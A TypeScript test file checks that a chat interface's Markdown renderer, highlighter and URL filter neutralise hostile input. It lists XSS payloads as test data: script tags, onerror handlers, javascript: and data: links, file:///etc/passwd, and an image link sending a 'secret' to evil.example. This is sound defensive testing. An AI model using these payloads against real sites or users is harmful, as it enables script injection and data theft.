import assert from "node:assert/strict";
import { test } from "node:test";

import { highlighted, runsOf } from "../../src/chat/page/highlight";
import { blocks, GrowingMarkdown, type Node } from "../../src/chat/page/markdown";
import { safeUrl } from "../../src/chat/urls";

/** Every element of a tree. */
function all(nodes: readonly Node[]): Exclude<Node, string>[] {
  return nodes.flatMap((node) => (typeof node === "string" ? [] : [node, ...("children" in node ? all(node.children) : [])]));
}

function texts(nodes: readonly Node[]): string {
  return nodes.map((node) => (typeof node === "string" ? node : "children" in node ? texts(node.children) : node.code)).join("");
}

const read = (source: string): Node[] => blocks(source).map((block) => block.node);

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![x](https://evil.example/?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "[x](command:workbench.action.terminal.new)",
  "[x](vscode://file/etc/passwd)",
  "[x](//evil.example)",
  "[x](https://user:pass@evil.example)",
  "<https://user@evil.example>",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "<a href='javascript:1'>x</a>",
  "<style>*{display:none}</style>",
  "```html\n<script>alert(1)</script>\n```",
  "|a|\n|-|\n|<iframe src=//evil.example>|",
  "# <svg/onload=alert(1)>",
];

for (const source of HOSTILE) {
  test(`hostile text is text: ${JSON.stringify(source)}`, () => {
    const nodes = read(source);
    for (const node of all(nodes)) {
      if (node.tag !== "link") continue;
      assert.match(node.href, /^https?:\/\/[^@]*$/u);
    }
    const known = new Set(["p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "br", "strong", "em", "s", "code", "table", "thead", "tbody", "tr", "th", "td", "span", "link", "code-block"]);
    for (const node of all(nodes)) assert.ok(known.has(node.tag), node.tag);
  });
}

test("what looks like HTML or a picture is shown as it was written", () => {
  assert.equal(texts(read("<b onclick=1>x</b>")), "<b onclick=1>x</b>");
  assert.equal(texts(read("![alt](https://evil.example/a.png)")), "![alt](https://evil.example/a.png)");
});

test("a link shows its host, once", () => {
  assert.equal(texts(read("[docs](https://example.org/a)")), "docs (example.org)");
  assert.equal(texts(read("[docs](https://example.org/a) (example.org)")), "docs (example.org)");
  assert.equal(texts(read("https://example.org/a")), "https://example.org/a");
  assert.equal(texts(read("[example.com](https://evil.example/)")), "example.com (evil.example)");
});

test("elements of Markdown are there", () => {
  const tags = all(read("# a\n\n- *b* **c** ~~d~~ `e`\n\n3. x\n\n> q\n\n---\n\n| h |\n|--:|\n| 1 |\n")).map((node) => node.tag);
  for (const tag of ["h3", "ul", "li", "em", "strong", "s", "code", "ol", "blockquote", "hr", "table", "th", "td"]) assert.ok((tags as string[]).includes(tag), tag);
  const list = all(read("3. x\n")).find((node) => node.tag === "ol");
  assert.equal(list && "start" in list && list.start, 3);
});

test("a fence knows whether it is closed", () => {
  const code = (source: string): unknown => all(read(source))[0];
  assert.deepEqual(code("```ts\na\n"), { tag: "code-block", language: "ts", code: "a", closed: false });
  assert.deepEqual(code("```ts\na\n```"), { tag: "code-block", language: "ts", code: "a", closed: true });
  assert.deepEqual(code("````\n```\n"), { tag: "code-block", language: "", code: "```", closed: false });
  assert.deepEqual(code("```\"><img src=x>\na\n```"), { tag: "code-block", language: "", code: "a", closed: true });
});

test("text that grows by any pieces comes to what the whole is", () => {
  const whole = "Intro *one*\ntwo\n\n1. a\n2. b\n\n   more\n\n```py\nx = 1\n\ny = 2\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> q\nlazy\n\nEnd **bold**.\n\nTitle\n===\n\nlast";
  const wanted = read(whole);
  for (const size of [1, 2, 3, 5, 7, 11, 40]) {
    const growing = new GrowingMarkdown();
    const drawn: Node[] = [];
    for (let end = size; ; end += size) {
      const { from, blocks: found } = growing.update(whole.slice(0, end));
      drawn.length = from;
      drawn.push(...found.map((block) => block.node));
      if (end >= whole.length) break;
    }
    assert.deepEqual(drawn, wanted, `in pieces of ${String(size)}`);
  }
});

test("of a long text only the last block is read again", () => {
  const growing = new GrowingMarkdown();
  const text = Array.from({ length: 500 }, (_, index) => `Paragraph ${String(index)}.\n\n`).join("");
  growing.update(text);
  const { from, blocks: found } = growing.update(`${text}More`);
  assert.equal(from + found.length, 501);
  assert.ok(found.length <= 2, String(found.length));
});

test("colours add up to the code, whatever is in it", () => {
  for (const code of ["<script>alert('x & y')</script>", "const a = `</span><b>${1}`;", "\"&lt;\" &amp; 'x'", "", "a\u0000b\u2028c"]) {
    for (const language of ["html", "typescript", "python", "no-such-language", "__proto__", "constructor"]) {
      assert.equal(highlighted(code, language).map((run) => run.text).join(""), code);
    }
  }
  assert.ok(highlighted("def f(): pass", "python").length > 1);
});

test("anything but spans of classes is no colour", () => {
  assert.equal(runsOf('<span class="a" onclick="x">b</span>'), undefined);
  assert.equal(runsOf("<img src=x>"), undefined);
  assert.equal(runsOf('<span class="hljs-a">open'), undefined);
  assert.deepEqual(runsOf('a<span class="hljs-x">&lt;b</span>'), [{ text: "a", className: "" }, { text: "<b", className: "hljs-x" }]);
});

test("only plain http and https links are opened", () => {
  assert.equal(safeUrl("https://example.org/a b"), "https://example.org/a%20b");
  for (const url of ["javascript:1", "https:evil", "file:///x", "https://u@h/", "command:x", " https://x", "http://"]) assert.equal(safeUrl(url), undefined, url);
});
